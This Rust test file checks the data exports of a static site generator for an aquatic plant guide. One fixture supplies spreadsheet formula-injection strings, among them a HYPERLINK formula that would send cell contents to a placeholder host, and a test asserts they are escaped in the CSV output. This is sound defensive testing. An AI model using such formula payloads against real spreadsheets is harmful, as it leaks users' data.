//! Data files for the whole guide: arrays of the single files, tables that read back.

use std::collections::BTreeMap;

use pondweigh::build;
use pondweigh::content::Input;
use serde_json::Value as Json;

use crate::support::{guide, weighed};

type Files = BTreeMap<String, String>;

fn files(input: &Input) -> Files {
    let (built, faults) = build(input, &|| {});
    let built = built.unwrap_or_else(|| panic!("{faults:#?}"));
    built
        .site
        .files
        .into_iter()
        .filter_map(|(path, bytes)| Some((path, String::from_utf8(bytes).ok()?)))
        .collect()
}

fn json(files: &Files, path: &str) -> Json {
    serde_json::from_str(&files[path]).unwrap_or_else(|error| panic!("{path}: {error}"))
}

/// A table read back: each row by column.
fn table(files: &Files, path: &str) -> Vec<BTreeMap<String, String>> {
    let text = &files[path];
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let head = reader.headers().expect("a first line").clone();
    reader
        .records()
        .map(|record| {
            let record = record.unwrap_or_else(|error| panic!("{path}: {error}"));
            head.iter()
                .map(str::to_owned)
                .zip(record.iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

/// Files of one kind in order of their ids.
fn single<'a>(files: &'a Files, folder: &str, name: &str) -> Vec<(&'a str, Json)> {
    let mut out: Vec<(&str, Json)> = files
        .keys()
        .filter_map(|path| {
            let id = path.strip_prefix(folder)?.strip_suffix(name)?;
            Some((id, json(files, path)))
        })
        .collect();
    out.sort_by_key(|(id, _)| *id);
    out
}

#[test]
fn whole_guide_files_are_the_single_files_in_order() {
    for name in ["", "tests/guides/corner"] {
        let files = files(&guide(name));
        for (whole, folder, file) in [
            ("data/plants.json", "plants/", "/plant.json"),
            ("data/sources.json", "sources/", "/source.json"),
            ("data/names.json", "names/", "/group.json"),
        ] {
            let parts = single(&files, folder, file);
            assert!(parts.len() > 2, "{name}: {whole}");
            let parts: Vec<Json> = parts.into_iter().map(|(_, json)| json).collect();
            assert_eq!(json(&files, whole), Json::Array(parts), "{name}: {whole}");
            assert!(files[whole].ends_with("]\n") && files[whole].lines().count() == 1);
        }
    }
}

#[test]
fn wanted_pairs_are_all_there() {
    let input = guide("tests/guides/corner");
    let weighed = weighed(&input);
    let wanted = json(&files(&input), "data/wanted.json");
    let wanted = wanted.as_array().expect("an array");
    assert!(wanted.len() > 5);
    assert_eq!(wanted.len(), weighed.standings.wanted.len());
    for (row, pair) in wanted.iter().zip(&weighed.standings.wanted) {
        assert_eq!(row["plant"], weighed.names.plants[pair.plant].slug.as_str());
        assert_eq!(row["role"], weighed.guide.roles[pair.role].id.as_str());
        assert_eq!(row["standing"], "unproven");
        assert_eq!(row["notes"].as_u64(), pair.notes.map(|n| n as u64));
        for change in row["changes"].as_array().expect("an array") {
            assert_eq!(change["notes"], row["notes"]);
        }
    }
}

#[test]
fn tables_hold_what_the_json_holds() {
    for name in ["", "tests/guides/corner"] {
        let input = guide(name);
        let files = files(&input);
        let plants: Vec<(&str, Json)> = single(&files, "plants/", "/plant.json");

        let mut expected = Vec::new();
        for (slug, plant) in &plants {
            let here = plant["regulated"]
                .as_array()
                .expect("an array")
                .iter()
                .any(|row| row["here"] == true);
            for (water, roles) in plant["standings"].as_object().expect("a map") {
                for (role, standing) in roles.as_object().expect("a map") {
                    if standing.is_null() {
                        continue;
                    }
                    let rests_on: Vec<&str> = standing["sturdy"]["rests_on"]
                        .as_array()
                        .expect("an array")
                        .iter()
                        .filter_map(Json::as_str)
                        .collect();
                    expected.push([
                        (*slug).to_owned(),
                        plant["name"].as_str().expect("a name").to_owned(),
                        water.clone(),
                        role.clone(),
                        standing["standing"].as_str().expect("a word").to_owned(),
                        standing["in_doubt"].to_string(),
                        here.to_string(),
                        rests_on.join("; "),
                    ]);
                }
            }
        }
        let columns = [
            "plant",
            "name",
            "water",
            "role",
            "standing",
            "in_doubt",
            "regulated_here",
            "rests_on",
        ];
        let mut found: Vec<[String; 8]> = table(&files, "data/standings.csv")
            .iter()
            .map(|row| columns.map(|column| row[column].clone()))
            .collect();
        expected.sort();
        found.sort();
        assert_eq!(found, expected, "{name}");

        let grades = table(&files, "data/grades.csv");
        let (mut overall, mut in_water) = (0, 0);
        for (slug, plant) in &plants {
            let row = |of: &str, water: &str| {
                let mut rows = grades.iter().filter(|row| {
                    row["plant"] == *slug && row["trait"] == of && row["water"] == water
                });
                let row = rows.next().unwrap_or_else(|| panic!("{slug} {of} {water}"));
                assert!(rows.next().is_none(), "{slug} {of} {water} twice");
                row
            };
            let same = |row: &BTreeMap<String, String>, column: &str, value: &Json| {
                let shown = match value {
                    Json::Null => String::new(),
                    Json::String(text) => text.clone(),
                    other => other.to_string(),
                };
                assert_eq!(row[column], shown, "{slug} {column}: {row:?}");
            };
            let check = |row: &BTreeMap<String, String>, grade: &Json| {
                for column in [
                    "level",
                    "weight",
                    "voices",
                    "effective_voices",
                    "evidence",
                    "agreement",
                    "confidence",
                    "contested",
                ] {
                    same(row, column, &grade[column]);
                }
                same(row, "span_low", &grade["span"][0]);
                same(row, "span_high", &grade["span"][1]);
            };
            for (of, grade) in plant["traits"].as_object().expect("a map") {
                overall += 1;
                let row = row(of, "");
                if grade.get("level").is_some() {
                    check(row, grade);
                } else {
                    for (column, key) in [
                        ("span_low", "low"),
                        ("span_high", "high"),
                        ("voices", "voices"),
                        ("evidence", "evidence"),
                        ("agreement", "agreement"),
                        ("confidence", "confidence"),
                    ] {
                        same(row, column, &grade[key]);
                    }
                    assert_eq!(
                        (row["level"].as_str(), row["contested"].as_str()),
                        ("", "false")
                    );
                }
            }
            for (water, traits) in plant["in_water"].as_object().expect("a map") {
                for (of, grade) in traits.as_object().expect("a map") {
                    in_water += 1;
                    check(row(of, water), grade);
                }
            }
        }
        assert!(overall > 10 && in_water > 10);
        assert_eq!(grades.len(), overall + in_water, "{name}");

        let claims = table(&files, "data/claims.csv");
        let weighed = weighed(&input);
        let all: usize = weighed
            .reconciled
            .plants
            .iter()
            .flat_map(|plant| plant.traits.values())
            .map(|graded| graded.claims.len())
            .sum();
        assert_eq!(claims.len(), all, "{name}");
        // Claims on a scale are in the JSON too, in this order.
        for (slug, plant) in &plants {
            for (of, grade) in plant["traits"].as_object().expect("a map") {
                let Some(listed) = grade.get("claims").and_then(Json::as_array) else {
                    continue;
                };
                let rows: Vec<_> = claims
                    .iter()
                    .filter(|row| row["plant"] == *slug && row["trait"] == *of)
                    .collect();
                assert_eq!(rows.len(), listed.len(), "{slug} {of}");
                for (row, claim) in rows.iter().zip(listed) {
                    for column in ["source", "voice"] {
                        assert_eq!(claim[column], row[column].as_str());
                    }
                    for column in ["loose", "weighed"] {
                        assert_eq!(claim[column].to_string(), row[column]);
                    }
                    let weight = &claim["weight"];
                    assert_eq!(
                        row["weight"],
                        if weight.is_null() {
                            String::new()
                        } else {
                            weight.to_string()
                        }
                    );
                    assert_eq!(claim["text"], row["text"].as_str());
                    assert_eq!(row["reason"].is_empty(), claim["weighed"] == true);
                }
            }
        }
    }
}

/// The small guide, with names and remarks that a spreadsheet would run or that break a line.
fn hostile() -> Input {
    let mut files = guide("tests/site/guide").files;
    for (path, text) in [
        (
            "content/sources/bad.yaml",
            "title: '=HYPERLINK(\"http://x.example/?\"&A1, \"Log, first\")'\nkind: log\nvoice: '@SUM(1)'\n",
        ),
        (
            "content/sources/worse.yaml",
            "title: \"\\tTabbed\"\nkind: note\nvoice: '-2+3'\n",
        ),
        (
            "content/plants/hostis/one.yaml",
            concat!(
                "name: \"Hostis prima 'One, \\\"Two\\\"'\"\n",
                "form: rosette\n",
                "claims:\n",
                "  - {trait: growth, source: bad, says: fast}\n",
                "  - {trait: growth, source: worse, says: slow, set-aside: \"=1+1, he said:\\n\\\"no\\\"\"}\n",
            ),
        ),
    ] {
        files.push((path.to_owned(), text.as_bytes().to_vec()));
    }
    files.sort();
    Input {
        files,
        unread: Vec::new(),
    }
}

#[test]
fn hostile_texts_read_back_and_are_no_formulas() {
    let input = hostile();
    let files = files(&input);
    let slug = "hostis-prima-one-two";
    let rows: Vec<_> = table(&files, "data/claims.csv")
        .into_iter()
        .filter(|row| row["plant"] == slug)
        .collect();
    assert_eq!(rows.len(), 2);
    let claims = &json(&files, &format!("plants/{slug}/plant.json"))["traits"]["growth"]["claims"];
    for (row, claim) in rows.iter().zip(claims.as_array().expect("an array")) {
        let text = claim["text"].as_str().expect("a text");
        let voice = claim["voice"].as_str().expect("a voice");
        assert!(text.starts_with(['=', '\t']) && voice.starts_with(['@', '-']));
        assert_eq!(row["text"], format!("'{text}"));
        assert_eq!(row["voice"], format!("'{voice}"));
    }
    assert!(
        rows[1]["reason"].ends_with("=1+1, he said:\n\"no\""),
        "{rows:?}"
    );
    let standings = table(&files, "data/standings.csv");
    let own = standings.iter().filter(|row| row["plant"] == slug);
    for row in own {
        assert_eq!(row["name"], "Hostis prima 'One, \"Two\"'");
        assert!(!row["rests_on"].starts_with('@'), "{row:?}");
    }
    for path in ["data/standings.csv", "data/grades.csv", "data/claims.csv"] {
        // Source: RFC 4180, section 2: lines end in CR LF, quotation marks are doubled.
        assert!(files[path].ends_with("\r\n"), "{path}");
        for row in table(&files, path) {
            for (column, cell) in row {
                let is_number = cell.parse::<f64>().is_ok();
                assert!(
                    is_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{path}: {column}: {cell}"
                );
            }
        }
    }
    assert!(files["data/standings.csv"].contains("\"Hostis prima 'One, \"\"Two\"\"'\""));
}

#[test]
fn a_number_below_zero_stays_a_number() {
    let mut files_in = guide("tests/site/guide").files;
    for (path, text) in [
        (
            "content/traits.yaml",
            "frost: {title: Frost, kind: span, measure: temperature}\n",
        ),
        (
            "content/plants/vallisneria/spiralis.yaml",
            "  - {trait: frost, source: my-log, measures: -4..2 C}\n",
        ),
    ] {
        let (_, bytes) = files_in.iter_mut().find(|(p, _)| p == path).expect(path);
        bytes.extend(text.as_bytes());
    }
    let files = files(&Input {
        files: files_in,
        unread: Vec::new(),
    });
    let rows = table(&files, "data/grades.csv");
    let row = rows
        .iter()
        .find(|row| row["trait"] == "frost")
        .expect("a row");
    assert_eq!(
        (row["span_low"].as_str(), row["span_high"].as_str()),
        ("-4.0", "2.0")
    );
}

#[test]
fn the_page_describes_every_file_and_column() {
    let files = files(&guide(""));
    let html = &files["data/index.html"];
    let mut seen = 0;
    for path in files.keys().filter(|path| path.starts_with("data/")) {
        let Some(name) = path
            .strip_prefix("data/")
            .filter(|name| *name != "index.html")
        else {
            continue;
        };
        assert!(html.contains(&format!("<a href=\"{name}\">")), "{name}");
        if name.ends_with(".csv") {
            let head = files[path].lines().next().expect("a first line");
            let (_, after) = html
                .split_once(&format!("<a href=\"{name}\">"))
                .expect("a link");
            let part = after.split("</section>").next().expect("an end");
            let described: Vec<&str> = part
                .split("<dt><code>")
                .skip(1)
                .filter_map(|part| part.split("</code>").next())
                .collect();
            assert_eq!(described, head.split(',').collect::<Vec<_>>(), "{name}");
        }
        seen += 1;
    }
    assert!(seen >= 8, "{seen}");
    for said in [
        "CC-BY-4.0",
        "Lanternford Water Circle",
        "invented",
        "apostrophe",
    ] {
        assert!(
            html.split("<main").nth(1).expect("main").contains(said),
            "{said}"
        );
    }
}
